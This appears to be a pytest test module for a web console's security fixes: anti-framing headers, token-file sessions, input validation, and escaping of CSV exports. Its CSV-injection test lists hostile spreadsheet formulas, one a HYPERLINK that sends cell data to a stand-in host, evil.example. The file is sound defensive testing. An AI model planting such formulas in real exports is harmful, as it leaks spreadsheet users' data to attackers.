"""The security review's console findings (issue 23): clickjacking headers on every response (3), sessions that
follow the tokens file at every request (5), CSV injection in the log export (7), and malformed API input as a
400 with Graph's error JSON, never a 500 with a traceback (11)."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import threading
from pathlib import Path
from typing import Any

import pytest

from tests.unit.test_console import Console, make_console
from writeback.adapters.state.sqlite import SqliteStore
from writeback.app.service import JsonFormatter
from writeback.console import auth as auth_module
from writeback.console.app import CSP
from writeback.console.app import Console as ConsoleApp
from writeback.console.auth import token_line
from writeback.core.ports import LogRecord


@pytest.fixture
def console(tmp_path: Path) -> Console:
    return make_console(tmp_path)


def _tokens_file(console: Console) -> Path:
    path = console.service.settings.console.tokens_file
    assert path
    return Path(path)


def _graph_error(r: Any, status: int, *words: str) -> str:
    """Assert ``r`` is Graph's error JSON with ``status`` and a message holding ``words``; the message."""
    assert r.status_code == status, (r.status_code, r.text)
    assert r.headers["content-type"].startswith("application/json"), r.headers
    error = r.json()["error"]
    assert set(error) == {"code", "message", "innerError"}, error
    assert error["code"] == {400: "BadRequest", 401: "Unauthorized", 403: "Forbidden", 404: "NotFound"}.get(
        status, error["code"]
    )
    assert set(error["innerError"]) == {"date", "request-id"}
    assert "Traceback" not in r.text
    for word in words:
        assert word in error["message"], (word, error["message"])
    message: str = error["message"]
    return message


# -- 3. clickjacking: the security headers on every response ---------------------------------------------------


def test_every_kind_of_response_forbids_framing_and_foreign_scripts(console: Console) -> None:
    console.service.run(once=True)
    viewer = console.bearer(console.viewer)
    responses = {
        "page": console.client.get("/", headers=viewer),
        "log page": console.client.get("/log", headers=viewer),
        "api": console.client.get("/api/status", headers=viewer),
        "api error": console.client.get("/api/log?limit=abc", headers=viewer),
        "api 404": console.client.get("/api/nothing-here", headers=viewer),
        "api 401": console.client.get("/api/status"),
        "page redirect": console.client.get("/groups", follow_redirects=False),
        "sign-in": console.client.get("/signin"),
        "sign-in refused": console.client.post("/signin", data={"token": "wrong"}),
        "error page": console.client.get("/log/999", headers=viewer),
        "metrics": console.client.get("/metrics", headers=viewer),
        "healthz": console.client.get("/healthz"),
        "readyz": console.client.get("/readyz"),
        "static": console.client.get("/static/htmx.min.js"),
        "static 404": console.client.get("/static/nothing.js"),
    }
    for kind, r in responses.items():
        h = r.headers
        assert "frame-ancestors 'none'" in h.get("content-security-policy", ""), kind
        assert "script-src 'self';" in h["content-security-policy"], kind
        assert h.get("x-frame-options") == "DENY", kind
        assert h.get("x-content-type-options") == "nosniff", kind
        assert h.get("referrer-policy") == "no-referrer", kind
        if kind.startswith("static"):
            assert h.get("cache-control") != "no-store", kind  # htmx and the style may be cached
        else:
            assert h.get("cache-control") == "no-store", kind
    assert responses["page"].status_code == 200 and responses["static"].status_code == 200


def test_the_pages_need_nothing_the_policy_forbids(console: Console) -> None:
    """No inline script, style or event handler, and nothing loaded from elsewhere: the CSP breaks no page."""
    assert "'unsafe-inline'" not in CSP and "'unsafe-eval'" not in CSP
    console.service.run(once=True)
    csrf = console.sign_in(console.operator)
    assert csrf
    console.service.health.held = [{"kind": "deletes", "count": 2, "limit": 1, "message": "held"}]
    pages = [console.client.get(p) for p in ("/", "/groups", "/log", "/log/1", "/provision?q=g")]
    pages.append(ask(console, "/plan"))
    pages.append(console.client.get("/signin"))
    for r in pages:
        assert r.status_code == 200, (r.url, r.text)
        html = r.text
        assert re.findall(r"<script\b[^>]*>", html) in ([], ['<script src="/static/htmx.min.js" defer>']), (
            html
        )
        assert "<style" not in html and not re.search(r"\sstyle=", html), r.url
        assert not re.search(r"\son[a-z]+=", html), r.url  # no onclick= and the like
        assert not re.search(r"""(src|href)=["']?(https?:)?//""", html), r.url
        assert "javascript:" not in html
    # htmx adds no inline style of its own and evaluates nothing.
    config = re.search(r"<meta name=\"htmx-config\" content='([^']+)'>", pages[0].text)
    assert config and json.loads(config.group(1))["includeIndicatorStyles"] is False
    assert json.loads(config.group(1))["allowEval"] is False


def ask(console: Console, path: str) -> Any:
    """GET ``path`` (signed in by the client's cookie) while this thread runs the service's jobs, as its loop
    would: the plan page waits for the loop."""
    out: dict[str, Any] = {}
    t = threading.Thread(target=lambda: out.setdefault("r", console.client.get(path)))
    t.start()
    while t.is_alive():
        console.service.run_jobs()
        t.join(0.05)
    return out["r"]


# -- 5. sessions follow the tokens file ------------------------------------------------------------------------


def test_a_session_ends_when_its_token_leaves_the_tokens_file(console: Console) -> None:
    console.sign_in(console.viewer)
    assert console.client.get("/api/status").status_code == 200  # the browser's cookie
    tokens = _tokens_file(console)
    tokens.write_text(token_line("olga", "operator", console.operator))  # vic's token removed
    r = console.client.get("/", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/signin")
    _graph_error(console.client.get("/api/status"), 401, "sign in")
    # Putting the token back does not bring back the session: it was ended.
    tokens.write_text(token_line("vic", "viewer", console.viewer))
    assert console.client.get("/api/status").status_code == 401
    # A bearer request follows the file as well.
    assert console.client.get("/api/status", headers=console.bearer(console.operator)).status_code == 401


def test_a_downgraded_operators_session_can_no_longer_act(console: Console) -> None:
    csrf = console.sign_in(console.operator)
    r = console.client.post("/actions/reconcile", data={"csrf": csrf}, follow_redirects=False)
    assert r.status_code == 303
    console.service._reconcile_requested = False
    tokens = _tokens_file(console)
    st = tokens.stat()
    tokens.write_text(token_line("olga", "viewer", console.operator))
    os.utime(tokens, ns=(st.st_atime_ns, st.st_mtime_ns))  # as a rewrite within the same clock tick
    r = console.client.post("/actions/reconcile", data={"csrf": csrf}, follow_redirects=False)
    assert r.status_code == 403 and "operator role" in r.text
    r = console.client.post("/api/allow", json={"deletes": 1}, headers={"X-CSRF-Token": csrf})
    assert "operator role" in _graph_error(r, 403)
    assert not console.service._reconcile_requested
    assert "(viewer)" in console.client.get("/").text  # the page names the role the file gives now


def test_an_unchanged_tokens_file_is_not_read_again(
    console: Console, monkeypatch: pytest.MonkeyPatch
) -> None:
    reads: list[str] = []
    real = auth_module._read_tokens

    def counting(path: str) -> Any:
        reads.append(path)
        return real(path)

    monkeypatch.setattr(auth_module, "_read_tokens", counting)
    h = console.bearer(console.viewer)
    for _ in range(5):
        assert console.client.get("/api/status", headers=h).status_code == 200
    assert len(reads) <= 1  # at most once: the fixture's build read it already
    before = len(reads)
    tokens = _tokens_file(console)
    tokens.write_text(tokens.read_text() + "# a comment\n")
    for _ in range(3):
        assert console.client.get("/api/status", headers=h).status_code == 200
    assert len(reads) == before + 1 and reads[-1] == str(tokens)


@pytest.mark.parametrize(
    "breakage", ["missing", "group-writable", "other-writable", "malformed", "unreadable"]
)
def test_a_tokens_file_that_cannot_be_used_locks_the_console_with_a_clear_503(
    console: Console, breakage: str, caplog: pytest.LogCaptureFixture
) -> None:
    console.sign_in(console.operator)
    tokens = _tokens_file(console)
    if breakage == "missing":
        tokens.unlink()
        words = ["console locked", "missing", "chmod 600"]
    elif breakage == "group-writable":
        tokens.chmod(0o620)
        words = ["console locked", "mode 620", f"chmod 600 {tokens}"]
    elif breakage == "other-writable":
        tokens.chmod(0o602)
        words = ["console locked", "mode 602", "chmod 600"]
    elif breakage == "malformed":
        tokens.write_text("olga operator not-a-hash\n")
        words = ["console locked", "line 1", "NAME ROLE sha256:HEX"]
    else:  # a directory where the file should be (a mode 000 file would not stop root)
        tokens.unlink()
        tokens.mkdir()
        words = ["console locked", "cannot read", "mode 600"]
    for headers in ({}, console.bearer(console.operator)):  # the session cookie, and a bearer request
        for _ in range(2):  # the same again when the file has not changed
            r = console.client.get("/api/status", headers=headers)
            message = _graph_error(r, 503, *words)
            assert message.startswith("console locked: ") and console.operator not in message
    locked = [r for r in caplog.records if getattr(r, "event", None) == "console_locked"]
    assert len(locked) == 1 and locked[0].getMessage() == message  # logged once, not at every request
    page = console.client.get("/", follow_redirects=False)
    assert page.status_code == 503 and "Console locked" in page.text and "Traceback" not in page.text
    signin = console.client.post("/signin", data={"token": console.operator}, follow_redirects=False)
    assert signin.status_code == 503 and "console locked" in signin.text
    assert console.client.get("/healthz").status_code == 200  # alive: the service itself runs on
    # Fixed: the session works again (it was not ended; its token is in the file).
    if tokens.is_dir():
        tokens.rmdir()
    tokens.write_text(token_line("olga", "operator", console.operator))
    tokens.chmod(0o600)
    assert console.client.get("/api/status").status_code == 200


# -- 7. CSV injection --------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2", "@SUM(A1:A2)", "\tx", "\rx"]


def test_the_csv_export_shows_formulas_as_text(console: Console) -> None:
    store = SqliteStore(console.service.settings.state.path)
    try:
        store.log_rows(
            [
                LogRecord("r1", "create", "error", group_name=name, error=name, cloud_id=name)
                for name in [*FORMULAS, "plain", "a=b"]
            ]
        )
    finally:
        store.close()
    r = console.client.get("/api/log", params={"format": "csv"}, headers=console.bearer(console.viewer))
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    assert len(rows) == len(FORMULAS) + 2
    shown = {row["group_name"]: row for row in rows}
    for name in FORMULAS:
        row = shown["'" + name]  # prefixed with a single quote (OWASP)
        assert row["error"] == "'" + name and row["cloud_id"] == "'" + name
    assert shown["plain"]["error"] == "plain" and shown["a=b"]["error"] == "a=b"  # others as they are
    for row in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row


# -- 11. malformed API input ---------------------------------------------------------------------------------------

BAD_BODIES: list[tuple[str, bytes, str]] = [
    ("/api/allow", b"{not json", "not valid JSON"),
    ("/api/allow", b'{"deletes": 1e400}', "deletes must be a whole number"),
    ("/api/allow", b'{"deletes": 1.5}', "deletes must be a whole number"),
    ("/api/allow", b'{"removals": "abc"}', "removals must be a whole number"),
    ("/api/allow", b'{"updates": [1]}', "updates must be a whole number"),
    ("/api/allow", b'{"updates": {"n": 1}}', "updates must be a whole number"),
    ("/api/allow", b'{"deletes": true}', "deletes must be a whole number"),
    ("/api/allow", b'{"deletes": -3}', "deletes must be a whole number from 0"),
    ("/api/allow", b'{"deletes": 99999999999999999999999}', "deletes must be a whole number from 0"),
    ("/api/allow", b'{"deletes": NaN}', "not valid JSON"),
    ("/api/allow", b'{"deletes": Infinity}', "not valid JSON"),
    ("/api/allow", b"[1, 2]", "not an object"),
    ("/api/allow", b'"deletes"', "not an object"),
    ("/api/allow", b"42", "not an object"),
    ("/api/allow", b"null", "not an object"),
    ("/api/allow", b'{"removal": 40}', "unknown field 'removal'"),
    ("/api/allow", b"[" * 100_000 + b"]" * 100_000, "JSON"),
    ("/api/allow", b"{}", "nothing to allow"),
    ("/api/provision", b'{"group": 5}', "group must be a string"),
    ("/api/provision", b'{"group": ["G1"]}', "group must be a string"),
    ("/api/provision", b'{"group": "G1\\u0000"}', "control character"),
    ("/api/provision", b'{"group": ""}', "give the group"),
    ("/api/provision", b"{", "not valid JSON"),
    ("/api/reconcile", b"{oops", "not valid JSON"),
    ("/api/reconcile", b'{"now": true}', "unknown field 'now'"),
    ("/api/clear-quarantine", b"[]", "not an object"),
]


@pytest.mark.parametrize(("path", "body", "words"), BAD_BODIES)
def test_a_malformed_action_body_is_a_400_with_graphs_error_json(
    console: Console, path: str, body: bytes, words: str
) -> None:
    headers = {**console.bearer(console.operator), "Content-Type": "application/json"}
    r = console.client.post(path, content=body, headers=headers)
    _graph_error(r, 400, words)
    assert not console.service._reconcile_requested  # nothing was done


def test_an_action_body_of_a_wrong_content_type_is_a_400(console: Console) -> None:
    headers = {**console.bearer(console.operator), "Content-Type": "text/plain"}
    r = console.client.post("/api/allow", content=b"deletes=1", headers=headers)
    _graph_error(r, 400, "application/json")


def test_well_formed_actions_still_work(console: Console) -> None:
    h = console.bearer(console.operator)
    r = console.client.post("/api/allow", json={"deletes": 2, "removals": None, "updates": 0}, headers=h)
    assert r.status_code == 202, r.text
    assert console.client.post("/api/reconcile", headers=h).status_code == 202  # no body
    assert console.client.post("/api/reconcile", json={}, headers=h).status_code == 202
    csrf = console.sign_in(console.operator)
    r = console.client.post(
        "/actions/allow", data={"csrf": csrf, "removals": "7", "deletes": ""}, follow_redirects=False
    )
    assert r.status_code == 303
    r = console.client.post("/actions/allow", data={"csrf": csrf, "removals": "7.5"}, follow_redirects=False)
    assert r.status_code == 400 and "removals must be a whole number" in r.text


BAD_QUERIES: list[tuple[str, str]] = [
    ("/api/log?limit=abc", "limit must be a whole number"),
    ("/api/log?limit=0", "limit must be a whole number from 1 to 10000"),
    ("/api/log?limit=-5", "limit must be a whole number"),
    ("/api/log?limit=10001", "limit must be a whole number from 1 to 10000"),
    ("/api/log?limit=1e3", "limit must be a whole number"),
    ("/api/log?offset=1e23", "offset must be a whole number"),
    ("/api/log?offset=-1", "offset must be a whole number"),
    ("/api/log?offset=99999999999999999999999", "offset must be a whole number from 0 to"),
    ("/api/log?offset=9223372036854775808", "offset must be a whole number from 0 to"),
    ("/api/log?offset=%C2%B2", "offset must be a whole number"),  # a superscript two: a digit, not ASCII
    ("/api/log?since=" + "9" * 400 + "d", "since"),  # beyond a float
    ("/api/log?since=" + "9" * 5000 + "d", "since"),
    ("/api/log?since=%C2%B2d", "since"),
    ("/api/log?until=yesterday", "until"),
    ("/api/log?group=G%00", "control character"),
    ("/api/log?format=xml", "format 'xml' is not one of"),
    ("/api/log?status=bogus", "'bogus' is not one of"),
    ("/api/log/1e23", "a log entry's id must be a whole number"),
    ("/api/log/99999999999999999999999", "a log entry's id must be a whole number from 1 to"),
    ("/api/log/9223372036854775808", "a log entry's id must be a whole number from 1 to"),
    ("/api/log/-1", "a log entry's id must be a whole number"),
    ("/api/log/0", "a log entry's id must be a whole number from 1"),
    ("/api/log/abc", "a log entry's id must be a whole number"),
]


@pytest.mark.parametrize(("url", "words"), BAD_QUERIES)
def test_a_malformed_query_or_path_is_a_400_with_graphs_error_json(
    console: Console, url: str, words: str
) -> None:
    r = console.client.get(url, headers=console.bearer(console.viewer))
    _graph_error(r, 400, words)


def test_the_log_page_and_row_page_refuse_bad_input_as_pages(console: Console) -> None:
    h = console.bearer(console.viewer)
    r = console.client.get("/log?offset=99999999999999999999999", headers=h)
    assert r.status_code == 400 and "offset must be a whole number" in r.text and "<html" in r.text
    r = console.client.get("/log/99999999999999999999999", headers=h)
    assert r.status_code == 400 and "must be a whole number" in r.text and "<html" in r.text


def test_good_log_queries_still_work(console: Console) -> None:
    console.service.run(once=True)
    h = console.bearer(console.viewer)
    rows = console.client.get("/api/log?limit=2&offset=1&format=json", headers=h).json()["value"]
    assert len(rows) == 2
    assert console.client.get(f"/api/log/{rows[0]['id']}", headers=h).json()["id"] == rows[0]["id"]
    _graph_error(console.client.get("/api/log/9223372036854775807", headers=h), 404, "no such log entry")
    assert console.client.get("/api/log?since=12h&until=2999-01-01", headers=h).status_code == 200


def test_every_api_error_has_the_one_shape(console: Console) -> None:
    viewer, operator = console.bearer(console.viewer), console.bearer(console.operator)
    _graph_error(console.client.get("/api/status"), 401, "Authorization: Bearer")
    _graph_error(console.client.post("/api/reconcile", headers=viewer), 403, "operator role")
    _graph_error(console.client.get("/api/log/12345", headers=viewer), 404, "no such log entry")
    _graph_error(console.client.get("/api/provision/nope", headers=viewer), 404, "no such run")
    _graph_error(console.client.get("/api/no-such-thing", headers=viewer), 404)
    r = console.client.delete("/api/status", headers=operator)
    assert r.status_code == 405 and r.json()["error"]["code"] == "MethodNotAllowed"


def test_an_unexpected_error_is_a_json_500_and_one_json_log_record(
    console: Console, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(self: ConsoleApp) -> Any:
        raise RuntimeError("something nobody expected")

    monkeypatch.setattr(ConsoleApp, "status", broken)
    with caplog.at_level(logging.ERROR, logger="writeback.console"):
        r = console.client.get("/api/status", headers=console.bearer(console.viewer))
    message = _graph_error(r, 500, "request id")
    assert r.json()["error"]["code"] == "InternalServerError"
    assert "something nobody expected" not in r.text and "RuntimeError" not in r.text
    assert r.headers["x-frame-options"] == "DENY"  # the guard's headers on its own answer too
    (record,) = [rec for rec in caplog.records if rec.name == "writeback.console"]
    request_id = r.json()["error"]["innerError"]["request-id"]
    assert request_id in message
    line = JsonFormatter().format(record)
    data = json.loads(line)  # one JSON object on one line, with the traceback inside it
    assert "\n" not in line and data["event"] == "bug" and data["request_id"] == request_id
    assert "RuntimeError: something nobody expected" in data["exception"] and data["path"] == "/api/status"
    # A page's unexpected error is no traceback either.
    page = console.client.get("/", headers=console.bearer(console.viewer))
    assert page.status_code == 500 and "Traceback" not in page.text and "something nobody" not in page.text
